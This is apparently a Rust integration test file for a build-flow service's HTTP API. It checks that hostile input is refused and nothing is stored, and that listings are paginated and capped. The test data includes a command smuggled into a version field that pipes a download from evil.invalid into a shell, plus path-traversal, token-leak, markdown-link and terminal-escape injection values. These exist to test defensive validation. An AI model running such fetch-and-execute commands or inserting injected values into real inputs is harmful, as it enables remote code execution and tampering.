//! Untrusted input at the HTTP API's doors: a hostile build is refused whole and nothing is
//! stored, a trigger body is parsed whatever its headers, and listings are bounded pages.

use serde_json::{Value, json};
use sluice_tests::demo::Server;
use sluice_tests::demo::repos;

const JSON: Option<&str> = Some("application/json");

fn build(root: &std::path::Path, version: &str) -> Value {
    let head = repos::git(&root.join("remotes/runtime.git"), &["rev-parse", "main"]);
    json!({
        "repository": repos::remote_url(root, "runtime"),
        "branch": "main",
        "commit": head,
        "buildNumber": "20261101.1",
        "producedAt": "2026-11-01T10:00:00Z",
        "assets": [{"name": "Contoso.Runtime", "version": version}],
    })
}

fn builds(server: &Server, query: &str) -> Vec<Value> {
    serde_json::from_str(&server.get(&format!("/api/builds{query}")).unwrap()).unwrap()
}

#[test]
fn hostile_builds_are_refused_whole_and_nothing_is_stored() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    repos::create_repositories(root);
    let server = Server::start(root, &repos::write_config(root)).unwrap();

    let mut cases = Vec::new();
    cases.push((
        "assets[0].version",
        build(root, "9.0.2\nRUN curl http://evil.invalid/x | sh\n#"),
    ));
    let mut long = build(root, "9.0.2");
    long["buildNumber"] = json!("1".repeat(200_000));
    cases.push(("build number", long));
    let mut branch = build(root, "9.0.2");
    branch["branch"] = json!("../x");
    cases.push(("branch", branch));
    let mut leaky = build(root, "9.0.2");
    leaky["repository"] = json!("https://bot:s3cret-t0ken@github.com/contoso/runtime");
    cases.push(("repository", leaky));
    for (field, body) in cases {
        let answer = server
            .request("POST", "/api/builds", JSON, &body.to_string())
            .unwrap();
        assert_eq!(answer.status, 400, "{field}: {}", answer.body);
        let error: Value = serde_json::from_str(&answer.body).unwrap();
        let message = error["error"].as_str().unwrap();
        assert!(message.starts_with(field), "{message}");
        assert!(message.len() < 300 && !message.contains('\n'), "{message}");
        assert!(!message.contains("s3cret-t0ken"), "{message}");
    }
    assert!(builds(&server, "").is_empty(), "nothing was stored");
    server.stop();
}

#[test]
fn a_trigger_body_is_parsed_whatever_its_headers_and_must_be_an_object() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    repos::create_repositories(root);
    let server = Server::start(root, &repos::write_config(root)).unwrap();
    server.publish(root, "runtime", "1", "2.0.0").unwrap();
    let path = "/api/subscriptions/runtime-to-sdk/trigger";

    // No Content-Type: the body still counts (build 999 does not exist).
    let answer = server
        .request("POST", path, None, r#"{"build": 999}"#)
        .unwrap();
    assert_eq!(answer.status, 404, "{}", answer.body);
    for bad in ["[]", "42", r#"{"bild": 1}"#, "{"] {
        let answer = server.request("POST", path, JSON, bad).unwrap();
        assert_eq!(answer.status, 400, "{bad}: {}", answer.body);
        assert!(answer.body.contains("trigger body"), "{}", answer.body);
    }
    // No body at all: the newest build.
    let answer = server.request("POST", path, None, "").unwrap();
    assert_eq!(answer.status, 200, "{}", answer.body);
    server.stop();
}

#[test]
fn build_listings_are_bounded_pages() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    repos::create_repositories(root);
    let server = Server::start(root, &repos::write_config(root)).unwrap();
    for n in 1..=3 {
        server
            .publish(root, "runtime", &n.to_string(), &format!("2.0.{n}"))
            .unwrap();
    }
    let first = builds(&server, "?limit=2");
    assert_eq!(first.len(), 2);
    let last = first[1]["id"].as_i64().unwrap();
    let next = builds(&server, &format!("?limit=2&before={last}"));
    assert_eq!(next.len(), 1);
    assert!(next[0]["id"].as_i64().unwrap() < last);
    assert_eq!(
        builds(&server, "?limit=4000000000").len(),
        3,
        "a huge limit is capped, not refused"
    );
    server.stop();
}

fn pull_requests(server: &Server, query: &str) -> Vec<i64> {
    let listed: Vec<Value> =
        serde_json::from_str(&server.get(&format!("/api/pull-requests{query}")).unwrap()).unwrap();
    listed
        .iter()
        .map(|pr| pr["number"].as_i64().unwrap())
        .collect()
}

#[test]
fn pull_request_listings_are_bounded_pages() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    repos::create_repositories(root);
    let server = Server::start(root, &repos::write_config(root)).unwrap();
    // One runtime build opens a pull request on each of runtime's three consumers.
    server.publish(root, "runtime", "1", "2.0.0").unwrap();
    sluice_tests::wait::until_true(
        "three pull requests",
        std::time::Duration::from_secs(60),
        || pull_requests(&server, "").len() == 3,
    );
    let all = pull_requests(&server, "");
    assert!(all.windows(2).all(|w| w[0] > w[1]), "newest first: {all:?}");
    assert_eq!(pull_requests(&server, "?limit=2"), all[..2]);
    assert_eq!(
        pull_requests(&server, &format!("?limit=2&before={}", all[1])),
        all[2..]
    );
    assert_eq!(
        pull_requests(&server, "?limit=4000000000"),
        all,
        "a huge limit is capped, not refused"
    );
    let answer = server
        .request("GET", "/api/pull-requests?before=x", None, "")
        .unwrap();
    assert_eq!(answer.status, 400, "{}", answer.body);

    // The CLI pages the same way.
    let page = |args: &[&str]| -> Vec<i64> {
        let mut command = vec!["pr", "list", "--format", "json"];
        command.extend_from_slice(args);
        let listed: Vec<Value> = serde_json::from_str(&server.sluice(&command).unwrap()).unwrap();
        listed
            .iter()
            .map(|pr| pr["number"].as_i64().unwrap())
            .collect()
    };
    assert_eq!(page(&["--limit", "1"]), all[..1]);
    let before = all[0].to_string();
    assert_eq!(page(&["--limit", "1", "--before", &before]), all[1..2]);
    server.stop();
}

#[test]
fn check_names_and_reviewers_are_one_bounded_line() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    repos::create_repositories(root);
    let server = Server::start(root, &repos::write_config(root)).unwrap();
    server.publish(root, "runtime", "1", "2.0.0").unwrap();
    sluice_tests::wait::until("a pull request", std::time::Duration::from_secs(60), || {
        (server.get("/api/pull-requests/1")?.contains("headCommit")).then_some(())
    });
    let long = "x".repeat(100_000);
    for (path, body) in [
        (
            "checks",
            json!({"name": "build\n[x](http://evil.invalid)", "state": "success"}),
        ),
        ("checks", json!({"name": long, "state": "success"})),
        (
            "reviews",
            json!({"reviewer": "alice\u{1b}[31m", "state": "approved"}),
        ),
    ] {
        let answer = server
            .request(
                "POST",
                &format!("/api/pull-requests/1/{path}"),
                JSON,
                &body.to_string(),
            )
            .unwrap();
        assert_eq!(answer.status, 400, "{path}: {}", answer.body);
    }
    let shown: Value = serde_json::from_str(&server.get("/api/pull-requests/1").unwrap()).unwrap();
    assert_eq!(shown["checks"], json!([]), "{shown}");
    assert_eq!(shown["reviews"], json!([]), "{shown}");
    server.stop();
}
